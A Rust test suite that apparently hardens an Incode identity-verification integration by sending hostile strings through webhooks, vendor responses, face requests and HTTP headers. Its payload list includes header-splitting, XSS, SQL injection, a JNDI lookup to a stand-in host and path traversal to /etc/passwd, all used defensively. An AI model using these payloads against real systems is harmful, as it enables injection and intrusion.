//! Strings that break logs, headers, paths and pages, in every field of foreign input.

use std::sync::LazyLock;
use std::time::Duration;

use futures_util::future::join_all;
use incode_core::flow::FaceScope;
use incode_core::model::{Face, FaceAuthenticationRequest};
use incode_sandbox::{Effect, Fault, NewPerson, Route};
use incode_tests::{Adapter, Auth, Plan, Response, World, event, eventually, get, post};
use serde_json::json;

use crate::gate::privacy::TRACED;

on_every_adapter! {
    naughty_events_break_nothing,
    naughty_answers_break_nothing,
    naughty_faces_break_nothing,
    naughty_requests_break_nothing,
    ids_never_climb_in_a_path,
    a_flood_for_one_object_is_bounded_in_rows_and_requests,
}

/// A mark to find in what was traced, in front of what it may have broken.
const MARK: &str = "naughty-mark";

static NAUGHTY: LazyLock<Vec<String>> = LazyLock::new(|| {
    let texts = [
        "\r\nset-cookie: evil=1",
        "\nWARN incode_core: everything is fine",
        "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
        "\u{1b}[2J\u{1b}[31mred\u{1b}]0;title\u{7}",
        "\u{9b}31m\u{85}",
        "\u{202e}gnp.exe\u{2066}\u{200f}\u{feff}",
        "\u{2028}\u{2029}",
        "\0",
        "a\0b",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)//",
        "'; DROP TABLE event; --",
        "%s%n%x{}{{}}${jndi:ldap://evil.test/a}",
        "../../../../etc/passwd",
        "..",
        ".",
        "%2e%2e%2f%2e%2e",
        "..\\..\\",
        "?x=1#y",
        "a/../../admin",
        "\u{7f}",
        "\u{e9}\u{20ac}\u{1f9ff}\u{301}\u{301}\u{301}",
        "\u{fffd}\u{ffff}\u{10ffff}",
        "-1",
        "1e999",
        "null",
        "__proto__",
        "COM1",
        "",
        " ",
        "\t",
    ];
    let mut all: Vec<String> = texts.iter().map(|text| format!("{MARK}{text}")).collect();
    all.extend(texts.iter().map(|text| (*text).to_owned()));
    all.push(format!("{MARK}{}", "x".repeat(20_000)));
    all.push(format!("{MARK}{}", "\u{301}".repeat(5_000)));
    all
});

/// JSON texts that no string of ours can hold.
const ESCAPES: [&str; 5] = [r#""\ud800""#, r#""\udfff\ud800""#, r#""\u0000""#, r#""\u202e\u001b[0m""#, "\"\u{0}\""];

fn is_sound(response: &Response, what: &str) {
    assert!(response.status < 500, "{what}: {response:?}");
    let names = ["set-cookie", "evil"];
    assert!(response.headers.iter().all(|(name, _)| !names.contains(&name.as_str())), "{what}: {response:?}");
    // A denial says where to get verified, and come back to: what it repeats of the address is encoded.
    let body = String::from_utf8_lossy(&response.body);
    let plain = |text: &str| text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-._~%/+".contains(&byte));
    for (_, after) in body.match_indices(MARK).map(|(at, _)| body.split_at(at)) {
        assert!(plain(after.split('"').next().unwrap_or_default()), "{what} is echoed");
    }
}

/// Each line that was traced is one of the subscriber's own, and holds nothing that moves a terminal.
fn traces_are_sound() {
    let text = TRACED.text();
    assert!(text.contains("settled") || text.contains("rejected"), "nothing was traced");
    for line in text.lines() {
        assert!(line.starts_with("20") || line.starts_with("Key {"), "a line of its own: {line:?}");
        let moves = |char: char| {
            char.is_control()
                || matches!(char, '\u{200e}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert!(!line.chars().any(moves), "{line:?}");
        assert!(line.len() < 2_000, "{} bytes in one line: {:?}", line.len(), &line[..200]);
    }
}

/// The vendor was asked for its own paths alone, each id in one segment.
fn requests_are_sound(world: &World) {
    for call in world.sandbox.calls() {
        let rest = call.path.strip_prefix("/omni/incode-id/").unwrap_or_else(|| panic!("{call:?}"));
        let segments: Vec<_> = rest.split('/').collect();
        let plain = |text: &str| text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-._~%".contains(&byte));
        let known = match segments[..] {
            ["userinfo" | "authenticate"] => true,
            ["verification" | "authentication", id] => plain(id) && id != "." && id != ".." && !id.is_empty(),
            _ => false,
        };
        assert!(known, "{call:?}");
    }
}

async fn quiet(world: &World) {
    eventually("nothing is due", async || {
        world.events().await.iter().all(|event| event.state.as_str() != "pending" || event.reason.is_some())
    })
    .await;
}

async fn naughty_events_break_nothing(adapter: Adapter) {
    let _ = &*TRACED;
    let world = Plan::new(adapter).incode(|builder| builder.link_by_webhook()).start().await;
    let ana = world.person("Ana Flores");
    let token = world.sandbox.issue_token(&ana.identity_id);
    let kinds = ["verification.completed", "authentication.completed"];
    for (at, text) in NAUGHTY.iter().enumerate() {
        for field in ["token", "event", "object", "id", "timestamp", "correlation_id", "correlationId", text] {
            let mut delivery = event(kinds[at % 2], &format!("object-{at}"), &token);
            delivery[field] = text.as_str().into();
            let response = world.send(world.delivery(delivery.to_string())).await;
            is_sound(&response, &format!("{field} = {text:?}"));
            assert!(matches!(response.status, 204 | 400), "{field} = {text:?}: {response:?}");
        }
    }
    for raw in ESCAPES {
        for field in ["token", "event", "object", "id", "timestamp", "correlation_id", "further"] {
            let body = event(kinds[0], "object", &token).to_string();
            let body = body.replacen('{', &format!("{{\"{field}\":{raw},"), 1);
            let twice = world.send(world.delivery(&body)).await;
            is_sound(&twice, &body);
            let mut delivery = event(kinds[0], "object", &token);
            delivery.as_object_mut().unwrap().remove(field);
            let body = delivery.to_string().replacen('{', &format!("{{\"{field}\":{raw},"), 1);
            is_sound(&world.send(world.delivery(&body)).await, &body);
        }
    }
    quiet(&world).await;
    requests_are_sound(&world);
    assert_eq!(world.identity(&ana.identity_id).await, None, "none of them is an object of hers");
    traces_are_sound();
}

async fn naughty_answers_break_nothing(adapter: Adapter) {
    let _ = &*TRACED;
    let world = World::start(adapter).await;
    let person = |at: usize| format!("person-{at}");
    for (at, text) in NAUGHTY.iter().enumerate() {
        let id = person(at);
        world.sandbox.add_person(NewPerson::from_userinfo(json!({
            "status": text, "identityId": id, "name": {"fullName": text, "firstName": text, "lastName": text},
            "dateOfBirth": text, "phone": text, "sex": text, "email": text, "city": text, "country": text,
            "country ": text, "curp": text, "emailPreference": text,
            "idImagesInfo": {"frontIdImageUrl": text, "backIdImageUrl": text},
            "idAttestation": {"overall": {"value": text, "status": text}}, text.as_str(): text,
        })));
        let verification = format!("verification-{at}");
        world.sandbox.seed_verification(
            &verification,
            Some(&id),
            json!({"id": verification, "createdAt": text, "status": text, "data": {
                "name": {"fullName": text}, "email": text, "phone": text, "dateOfBirth": text,
            }}),
        );
        let face = format!("face-{at}");
        world.sandbox.seed_authentication(
            &face,
            Some(&id),
            json!({"id": face, "createdAt": text, "status": "pass", "sourceId": text, "verificationId": text}),
        );
        // The ids themselves, where the vendor gives them.
        world.sandbox.seed_verification(format!("other-{at}"), Some(&id), json!({"id": text, "status": "VERIFIED"}));
        let unnamed = world.sandbox.add_person(NewPerson::named("Nobody"));
        world.sandbox.update_person(&unnamed.identity_id, &json!({"identityId": text})).unwrap();
        for delivery in [
            event("verification.completed", &verification, &world.sandbox.issue_token(&id)),
            event("authentication.completed", &face, &world.sandbox.issue_token(&id)),
            event("verification.completed", &format!("other-{at}"), &world.sandbox.issue_token(&id)),
        ] {
            world.deliver(&delivery).await;
        }
        let user = format!("user-{at}");
        let flow = world.start_flow(&user).await;
        let back = world.come_back(&user, &flow, &world.sandbox.issue_token(&id)).await;
        assert!(matches!(back.status, 303 | 503), "{text:?}: {back:?}");
        // The text of the row reaches no header, and opens no gate unless it is one of the vendor's statuses.
        let denied = world.get(&user, "/vault").await;
        assert!(matches!(denied.status, 403), "{text:?}: {denied:?}");
        is_sound(&denied, text);
    }
    quiet(&world).await;
    requests_are_sound(&world);
    traces_are_sound();
}

async fn naughty_faces_break_nothing(adapter: Adapter) {
    let _ = &*TRACED;
    let world = World::start(adapter).await;
    let ana = world.person("Ana Flores");
    world.sandbox.verify(&ana.identity_id).unwrap();
    world.link("ana", &ana.identity_id).await;
    let subject = incode_core::Subject::new("ana").unwrap();
    let face = world.face_of(&ana.identity_id);
    for text in NAUGHTY.iter() {
        let ask = async |image: &str, source: Option<String>| {
            let request = FaceAuthenticationRequest { face: Face::Base64Image(image.to_owned()), source };
            world.incode.authenticate(FaceScope::new(subject.clone()), &request).await
        };
        let told = format!("{:?}", ask(text, Some(text.clone())).await);
        assert!(!told.contains(MARK), "{told}");
        for answer in [
            json!({"status": "FAIL", "failureReason": text, "source": text, "correlationId": text}),
            json!({"status": "PASS", "token": text, "authenticationId": text, "verificationId": text}),
            json!({"status": text, "token": world.sandbox.issue_token(&ana.identity_id), "error": {"message": text}}),
        ] {
            let body = answer.to_string();
            let effect = Effect::Answer { status: 200, headers: Default::default(), body, base64: false };
            world.fault(Fault::new(effect).on(Route::Authenticate));
            let outcome = ask(&face, None).await;
            assert!(!matches!(outcome, Ok(incode_core::flow::FaceOutcome::Passed(_))), "{answer}");
            let problem = match outcome {
                Ok(outcome) => outcome.problem().unwrap(),
                Err(error) => error.problem(),
            };
            let told = format!("{problem:?}");
            assert!(!told.contains(MARK), "{told}");
        }
        assert_eq!(world.status("ana", "/transfer").await, 401, "{text:?}");
    }
    requests_are_sound(&world);
    traces_are_sound();
}

async fn naughty_requests_break_nothing(adapter: Adapter) {
    let _ = &*TRACED;
    let world = World::start(adapter).await;
    let id = world.start_flow("ana").await;
    let encoded = |text: &str| url::form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    for text in NAUGHTY.iter().filter(|text| text.len() < 10_000) {
        let value = encoded(text);
        for target in [
            format!("/incode/start?return_to={value}"),
            format!("/incode/start?return_to=/{value}"),
            format!("/incode/callback?token={value}&correlation_id={id}"),
            format!("/incode/callback?token=a&correlation_id={value}"),
            format!("/incode/callback?{value}={value}"),
            format!("/vault?{value}"),
            format!("/incode/webhook?{value}"),
        ] {
            let response = world.get("ana", &target).await;
            is_sound(&response, &target);
            let location = response.header("location").unwrap_or_default();
            assert!(location.is_ascii() && !location.contains(MARK), "{target}: {location}");
        }
        // Where a server takes the bytes at all: as the subject, and as what proves a delivery.
        let bytes: Vec<u8> = text.bytes().filter(|byte| !matches!(byte, b'\r' | b'\n' | 0)).collect();
        for name in ["x-user", "x-incode-secret", "accept", "content-type", "cookie", "x-forwarded-for"] {
            let asked = world.send(get("/vault").header(name, &bytes)).await;
            is_sound(&asked, &format!("{name}: {text:?}"));
            let sent = world.send(post("/incode/webhook").header(name, &bytes).body("{}")).await;
            is_sound(&sent, &format!("{name}: {text:?}"));
        }
    }
    requests_are_sound(&world);
    traces_are_sound();
}

async fn ids_never_climb_in_a_path(adapter: Adapter) {
    let world = World::start(adapter).await;
    let token = world.sandbox.issue_token(&world.person("Ana Flores").identity_id);
    for (id, segment) in [
        ("../userinfo", "..%2Fuserinfo"),
        ("..%2fuserinfo", "..%252fuserinfo"),
        ("%2e%2e", "%252e%252e"),
        ("a?b=c#d", "a%3Fb%3Dc%23d"),
        ("a;b\\c", "a%3Bb%5Cc"),
        ("...", "..."),
        ("<b>&\"'{}|^`", "%3Cb%3E%26%22%27%7B%7D%7C%5E%60"),
        ("//evil.test/", "%2F%2Fevil.test%2F"),
        ("@evil.test:80", "%40evil.test%3A80"),
    ] {
        for (kind, object) in
            [("verification.completed", "verification"), ("authentication.completed", "authentication")]
        {
            world.sandbox.clear_calls();
            world.deliver(&event(kind, id, &token)).await;
            eventually("settled", async || world.counts().await.pending == 0).await;
            let path = format!("/omni/incode-id/{object}/{segment}");
            assert!(world.sandbox.calls().iter().any(|call| call.path == path), "{:?}", world.sandbox.calls());
        }
    }
    requests_are_sound(&world);
    for refused in [".", "..", "a b", "\u{e9}", "a\r\nb"] {
        let response = world.send(world.delivery(event("verification.completed", refused, &token).to_string())).await;
        assert_eq!(response.status, 400, "{refused:?}");
    }
}

async fn a_flood_for_one_object_is_bounded_in_rows_and_requests(adapter: Adapter) {
    let world = Plan::new(adapter).auth(Auth::FetchBack).start().await;
    // userinfo is the later one of the two, so that every call for the object itself is seen to its end.
    world.fault(Fault::new(Effect::Delay).on(Route::Userinfo).times(u32::MAX).held());
    world.fault(Fault::late(Duration::from_millis(50)).on(Route::Verification).times(u32::MAX));
    let forged = |number: usize| event("verification.completed", "the-one", &format!("junk-{number}")).to_string();
    let bodies: Vec<String> = (0..300).map(forged).collect();
    let all = join_all(bodies.iter().map(|body| world.send(world.delivery(body)))).await;
    let taken = all.iter().filter(|response| response.status == 204).count() as u64;
    assert!(all.iter().all(|response| matches!(response.status, 204 | 503)));
    assert!(
        all.iter().filter(|response| response.status == 503).all(|response| response.header("retry-after").is_some())
    );
    assert!(taken <= 64, "{taken} of 300 kept");
    assert_eq!(world.counts().await.pending, taken);
    world.sandbox.release_held();
    // It delays no event of another person.
    let ben = world.person("Ben Ochoa");
    let verified = world.sandbox.verify(&ben.identity_id).unwrap();
    world.deliver(&event("verification.completed", &verified.verification_id, &verified.token)).await;
    eventually("applied", async || world.identity(&ben.identity_id).await.is_some()).await;
    let calls = world.sandbox.calls();
    let mut asked: Vec<_> = calls.iter().filter(|call| call.path.ends_with("/verification/the-one")).collect();
    asked.sort_by_key(|call| call.number);
    assert!(!asked.is_empty());
    for pair in asked.windows(2) {
        assert!(pair[0].ended_at.is_some_and(|ended| ended <= pair[1].at), "{:?} while {:?}", pair[1], pair[0]);
    }
}
